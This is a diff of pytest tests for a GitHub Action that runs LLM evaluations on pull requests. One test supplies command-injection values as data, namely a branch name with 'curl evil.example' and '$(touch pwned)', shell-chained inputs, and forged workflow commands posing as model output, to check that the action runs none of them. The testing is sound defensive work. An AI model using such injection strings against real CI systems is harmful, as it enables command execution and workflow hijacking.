@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import json
 
-from tests.action.conftest import Shop
+from tests.action.conftest import KEY, Shop
 
 
 def test_a_regression_against_mains_newest_run_is_red_and_told(shop: Shop) -> None:
@@ -29,3 +29,125 @@ def test_a_regression_against_mains_newest_run_is_red_and_told(shop: Shop) -> No
     assert "facts" in job.summary
     assert json.loads((shop.hub.members(shop.runs, "llm-report"))["run.json"])["schema"] == 1
     assert job.outputs["report-url"].endswith(str(shop.hub.artifacts[shop.runs][0]["id"]))
+
+
+def test_what_a_model_says_is_no_command_and_what_an_input_says_is_no_script(shop: Shop) -> None:
+    said = "::error title=forged::by the model%0A\n::set-output name=conclusion::success\n::stop-commands::x"
+    shop.file(
+        "test_said.py",
+        """
+        import os, pytest
+
+        @pytest.mark.llm_eval
+        def test_said(llm_eval):
+            print(os.environ["SAID"])
+            print("TOKEN", [name for name, value in os.environ.items() if value == "ghs_workflow"])
+            print("INPUTS", [name for name in os.environ if name.startswith("LLMOPS_")])
+            assert llm_eval.run(lambda: os.environ["SAID"]).text == ""
+        """,
+    )
+    job = shop.pull_request(
+        branch='a"; curl evil.example; echo "$(touch pwned)`touch pwned`',
+        env={"SAID": said, "GITHUB_TOKEN": "ghs_workflow"},
+        inputs={
+            "paths": "test_said.py $(touch${IFS}pwned) `touch pwned` 'a; touch pwned'",
+            "pytest-args": '-k "said" -rA --color=no; touch pwned && touch pwned',
+        },
+    )
+    assert job.conclusion == "failure"
+    assert not list(shop.folder.parent.rglob("pwned"))
+    assert "forged" not in str([command for command in job.commands if command.name == "error" and command.options])
+    assert not [command for command in job.commands if command.name in ("set-output", "stop-commands")]
+    # Arguments that name no file are an error of the call; without them the test runs.
+    assert job.outputs["conclusion"] == "error"
+    job = shop.pull_request(
+        inputs={"paths": "test_said.py", "pytest-args": "-rA"}, env={"SAID": said, "GITHUB_TOKEN": "ghs_workflow"}
+    )
+    assert job.outputs["conclusion"] == "failure", job.log
+    assert "::error title=forged::" in job.step("Test").log
+    assert "TOKEN []" in job.step("Test").log
+    assert "INPUTS []" in job.step("Test").log
+    assert not [one for one in job.annotations() if one.options.get("title") == "forged"]
+    assert job.outputs["comment-url"]
+
+
+def test_a_wrong_input_is_named_before_anything_runs(shop: Shop) -> None:
+    job = shop.pull_request(inputs={"mode": "relpay"})
+    assert job.conclusion == "failure"
+    (error,) = job.annotations()
+    assert error.message == "input mode: 'relpay' is not one of: auto, replay, live. Did you mean 'replay'?"
+    ran = [step.name for step in job.steps if step.outcome == "success"]
+    assert ran == ["Install pytest-llmops"]
+    job = shop.use("pull_request_target", {})
+    assert "does not run on pull_request_target" in job.annotations()[0].message
+    assert not shop.provider.requests
+
+
+def test_a_crash_is_told_and_keeps_nothing_from_being_uploaded(shop: Shop) -> None:
+    shop.file("test_shop.py", "import nothing_of_this_name\n")
+    job = shop.pull_request()
+    assert job.conclusion == "failure"
+    assert (job.outputs["conclusion"], job.outputs["exit-code"]) == ("error", "2"), job.log
+    assert "could not collect the tests" in job.step("Gate").log
+    (comment,) = shop.hub.comments[7]
+    assert "could not collect the tests" in comment["body"]
+    assert set(shop.hub.members(shop.runs, "llm-report")) == {"junit.xml", "view.json"}
+    never = shop.pull_request(inputs={"fail-on": "never", "comment": "never"})
+    assert (never.conclusion, never.outputs["conclusion"]) == ("success", "error")
+
+
+def test_a_comment_that_may_not_be_written_is_a_warning(shop: Shop) -> None:
+    shop.hub.tokens["ghs_workflow"].write.clear()
+    job = shop.pull_request()
+    assert job.conclusion == "success", job.log
+    (warning,) = job.annotations("warning")
+    assert "permissions need `pull-requests: write`" in warning.message
+    assert job.outputs["comment-url"] == ""
+
+
+def test_what_the_pull_request_itself_accepts_counts(shop: Shop) -> None:
+    shop.push()
+    shop.file("prompt.txt", "In short: ")
+    shop.file(
+        "llm-accept.toml",
+        """
+        [[accept]]
+        metric = "facts"
+        reason = "short answers are wanted"
+        expires = 2999-12-31
+        by = "Ana"
+        """,
+    )
+    job = shop.pull_request()
+    assert (job.conclusion, job.outputs["regressed"]) == ("success", "0"), job.log
+    (comment,) = shop.hub.comments[7]
+    for words in ("facts", "short answers are wanted", "Ana", "2999-12-31"):
+        assert words in comment["body"]
+
+
+def test_an_edited_committed_baseline_counts_before_mains_run(shop: Shop) -> None:
+    shop.push()
+    shop.file("prompt.txt", "In short: ")
+    made = shop.use("workflow_dispatch", {}, env=KEY, inputs={"update-baseline": "true"})
+    assert made.conclusion == "success", made.log
+    assert (shop.folder / "baseline.json").is_file()
+    shop.hub.files[7] = ["baseline.json", "prompt.txt"]
+    job = shop.pull_request()
+    assert (job.outputs["conclusion"], job.outputs["baseline-sha"]) == ("success", ""), job.log
+    assert "baseline.json" in shop.hub.comments[7][0]["body"]
+
+
+def test_first_comments_on_change_only_where_something_changed(shop: Shop) -> None:
+    shop.push()
+    same = shop.pull_request(inputs={"comment": "on-change"})
+    assert same.conclusion == "success", same.log
+    assert not shop.hub.comments
+    shop.file("prompt.txt", "In short: ")
+    worse = shop.pull_request(inputs={"comment": "on-change", "fail-on": "failure"})
+    assert (worse.conclusion, worse.outputs["conclusion"]) == ("success", "regression"), worse.log
+    assert len(shop.hub.comments[7]) == 1
+    shop.file("prompt.txt", "Answer: ")
+    mended = shop.pull_request(inputs={"comment": "on-change"})
+    assert mended.conclusion == "success"
+    (comment,) = shop.hub.comments[7]
+    assert "regressed" not in comment["body"].splitlines()[0]
